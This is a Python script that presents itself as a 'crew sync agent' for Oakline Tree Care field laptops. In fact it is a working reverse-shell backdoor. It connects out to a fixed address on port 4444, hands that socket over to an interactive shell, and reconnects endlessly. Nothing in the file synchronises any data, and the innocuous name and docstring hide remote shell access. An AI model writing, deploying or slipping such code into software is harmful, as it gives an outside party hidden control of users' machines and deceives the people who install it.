#!/usr/bin/env python3
"""Crew sync agent for the Oakline Tree Care field laptops.

Keeps a control channel open to the office so the ops lead can "help out"
when a crew laptop misbehaves on site. Reconnects on failure.
"""
import argparse
import logging
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

LOG = logging.getLogger("crew_sync")

DEFAULT_HOST = os.environ.get("OAKLINE_SYNC_HOST", "203.0.113.47")
DEFAULT_PORT = int(os.environ.get("OAKLINE_SYNC_PORT", "4444"))
STATE_DIR = Path.home() / ".oakline" / "sync"


class ControlChannel:
    def __init__(self, host, port, retry_delay=30):
        self.host = host
        self.port = port
        self.retry_delay = retry_delay
        self.sock = None

    def connect(self):
        LOG.info("connecting to %s:%s", self.host, self.port)
        self.sock = socket.create_connection((self.host, self.port), timeout=20)
        self.sock.settimeout(None)
        banner = "crew-laptop %s ready\n" % socket.gethostname()
        self.sock.sendall(banner.encode())

    def attach_shell(self):
        """Hand the connection over to an interactive shell."""
        fd = self.sock.fileno()
        os.dup2(fd, 0)
        os.dup2(fd, 1)
        os.dup2(fd, 2)
        shell = os.environ.get("SHELL", "/bin/bash")
        proc = subprocess.call([shell, "-i"])
        return proc

    def close(self):
        if self.sock is not None:
            try:
                self.sock.close()
            except OSError:
                pass
            self.sock = None

    def run_forever(self, max_attempts=0):
        attempts = 0
        while True:
            attempts += 1
            try:
                self.connect()
                self.attach_shell()
            except (OSError, socket.timeout) as exc:
                LOG.warning("channel dropped: %s", exc)
            finally:
                self.close()
            if max_attempts and attempts >= max_attempts:
                LOG.info("giving up after %d attempts", attempts)
                return
            time.sleep(self.retry_delay)


def write_pidfile():
    STATE_DIR.mkdir(parents=True, exist_ok=True)
    pidfile = STATE_DIR / "agent.pid"
    pidfile.write_text(str(os.getpid()))
    return pidfile


def main():
    parser = argparse.ArgumentParser(description="Oakline crew sync agent")
    parser.add_argument("--host", default=DEFAULT_HOST)
    parser.add_argument("--port", type=int, default=DEFAULT_PORT)
    parser.add_argument("--retry", type=int, default=30)
    parser.add_argument("--attempts", type=int, default=0,
                        help="0 means keep trying forever")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
        filename=str(Path.home() / ".oakline" / "crew_sync.log")
        if (Path.home() / ".oakline").exists() else None,
    )
    pidfile = write_pidfile()
    LOG.debug("pidfile at %s", pidfile)

    channel = ControlChannel(args.host, args.port, args.retry)
    try:
        channel.run_forever(args.attempts)
    except KeyboardInterrupt:
        LOG.info("stopped by user")
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
